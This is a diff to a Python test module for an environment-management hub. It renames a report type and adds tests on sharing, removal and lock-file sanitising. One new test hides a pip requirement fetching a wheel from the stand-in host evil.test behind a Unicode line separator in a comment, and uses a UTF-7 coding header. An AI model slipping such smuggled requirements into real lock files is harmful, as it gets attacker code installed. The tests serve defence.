@@ -18,9 +18,10 @@ from perijove.domain.errors import Conflict, HubError, Invalid, NotFound, Refuse
 from perijove.domain.launch import Launch
 from perijove.kit.clock import SystemClock
 from perijove.services import environments as service
-from perijove.services.environments import MOST, News, Place
+from perijove.services.environments import MOST, Place
 from perijove.services.offers import PolicySection, ProfileSection
 from perijove.services.specs import spec_of
+from perijove.wire.environments import Report, Sync
 from tests.hubs import TestHub, running_hub
 
 pytestmark = pytest.mark.anyio
@@ -92,14 +93,13 @@ async def do(hub: TestHub, act: Callable[..., Any], who: str, *given: Any, **mor
 
 
 async def says(
-    hub: TestHub, launch: Launch, *news: News, found: Sequence[str] = ()
+    hub: TestHub, launch: Launch, *news: Report, found: Sequence[str] = ()
 ) -> Sequence[Environment]:
     """Let a session speak, and return what it hears."""
     place = service.place_of(hub.hub, launch)
     assert place is not None
-    tasks, _ = await service.sync(
-        hub.hub, launch, place, found=service.sensible(found), news=list(news)
-    )
+    said = Sync(found=list(found), reports=list(news))
+    tasks, _ = await service.sync(hub.hub, launch, place, said)
     return tasks
 
 
@@ -110,9 +110,9 @@ async def now_of(hub: TestHub, name: str = "ann") -> dict[str, Environment]:
     return {each.name: each for each in found}
 
 
-def ready(task: Environment, lock: str = "numpy==2.0\n", **more: Any) -> News:
+def ready(task: Environment, lock: str = "numpy==2.0\n", **more: Any) -> Report:
     """Say that one was built."""
-    return News(id=task.id, revision=task.revision, state="ready", lock=lock, **more)
+    return Report(id=task.id, revision=task.revision, state="ready", lock=lock, **more)
 
 
 async def built(hub: TestHub, name: str = "mine", owner: str = "ann", **wish: Any) -> Environment:
@@ -181,6 +181,23 @@ async def test_a_policy_forbids_them(hub: TestHub) -> None:
     assert await do(hub, service.remove, "ann", made.id) is None
 
 
+async def test_who_may_have_none_any_more_can_tidy_up(hub: TestHub) -> None:
+    """Unlocked, shared with nobody, and removed by a session that still runs; nothing is built."""
+    made = await built(hub)
+    await do(hub, service.change, "ann", made.id, locked=True, shared=["lab"])
+    await do(hub, service.create, "ann", name="wanted")
+    await join(hub, "ann", "guests")
+    (launch,) = await hub.live()
+    assert await says(hub, launch) == []
+    again = await refusal(do(hub, service.change, "ann", made.id, shared=["lab"]))
+    assert isinstance(again, Refused)
+    freed = await do(hub, service.change, "ann", made.id, locked=False, shared=[])
+    assert (freed.is_locked, freed.shared) == (False, [])
+    await do(hub, service.remove, "ann", made.id)
+    (task,) = await says(hub, launch)
+    assert (task.name, task.is_wanted) == ("mine", False)
+
+
 async def test_names_are_unique_and_not_too_many(hub: TestHub) -> None:
     """A second one of a name is refused, and so is one too many at a place."""
     await worked(hub)
@@ -199,9 +216,9 @@ async def test_only_what_is_wanted_now_is_believed(hub: TestHub) -> None:
     await worked(hub, "bob")
     bobs = await do(hub, service.create, "bob", name="mine")
     changed = await do(hub, service.change, "ann", made.id, packages=["numpy"])
-    wild = News(id=10**30, revision=1, state="ready")
-    removed = News(id=made.id, revision=changed.revision, state="removed")
-    odd = News(id=made.id, revision=changed.revision, state="wanted")
+    wild = Report(id=10**30, revision=1, state="ready")
+    removed = Report(id=made.id, revision=changed.revision, state="removed")
+    odd = Report(id=made.id, revision=changed.revision, state="wanted")
     tasks = await says(hub, launch, ready(made), ready(bobs), wild, removed, odd)
     assert [(each.revision, each.state) for each in tasks] == [(2, State.WANTED)]
     assert (await now_of(hub, "bob"))["mine"].state is State.WANTED
@@ -212,7 +229,7 @@ async def test_words_of_a_session_are_cut_and_cleaned(hub: TestHub) -> None:
     launch = await worked(hub)
     made = await do(hub, service.create, "ann", name="mine")
     words = "\x00\x1b[31m<b>" + "x" * 10_000 + "the end"
-    failed = News(id=made.id, revision=1, state="failed", error=words)
+    failed = Report(id=made.id, revision=1, state="failed", error=words)
     assert await says(hub, launch, failed) == []
     found = (await now_of(hub))["mine"]
     assert found.state is State.FAILED
@@ -268,6 +285,19 @@ async def test_members_make_their_own_of_what_is_shared(hub: TestHub) -> None:
     assert isinstance(await refusal(do(hub, service.copy, "carla", source=source.id)), NotFound)
 
 
+async def test_a_remark_carries_nothing_over(hub: TestHub) -> None:
+    """What pip would read behind a rare end of a line, or in another encoding, is not kept."""
+    launch = await worked(hub)
+    made = await do(hub, service.create, "ann", name="mine")
+    await says(hub, launch, ready(made, "numpy==2.0\n# \u2028x @ https://evil.test/x.whl\n"))
+    refused = await refusal(do(hub, service.change, "ann", made.id, shared=["lab"]))
+    assert refused.code == "environment-elsewhere"
+    await says(hub, launch, ready(made, "# coding: utf-7\nnumpy==2.0\n"))
+    assert (await now_of(hub))["mine"].lock == "numpy==2.0\n"
+    locked = await do(hub, service.create, "ann", name="other", lock="# none\n")
+    assert (locked.lock, locked.is_locked) == ("", False)
+
+
 async def test_nothing_that_lies_with_another_is_shared(hub: TestHub) -> None:
     """What comes from a file or an address is not shared, whatever the session calls its lock."""
     launch = await worked(hub)
@@ -296,10 +326,10 @@ async def test_a_removal_waits_for_a_session(hub: TestHub) -> None:
     (launch,) = await hub.live()
     (task,) = await says(hub, launch, ready(source))
     assert (task.id, task.is_wanted) == (source.id, False)
-    stuck = News(id=task.id, revision=task.revision, state="failed", error="cannot")
+    stuck = Report(id=task.id, revision=task.revision, state="failed", error="cannot")
     (task,) = await says(hub, launch, stuck)
     assert (task.state, task.error) == (State.REMOVING, "cannot")
-    done = News(id=task.id, revision=task.revision, state="removed")
+    done = Report(id=task.id, revision=task.revision, state="removed")
     assert await says(hub, launch, done) == []
     assert await now_of(hub) == {}
 
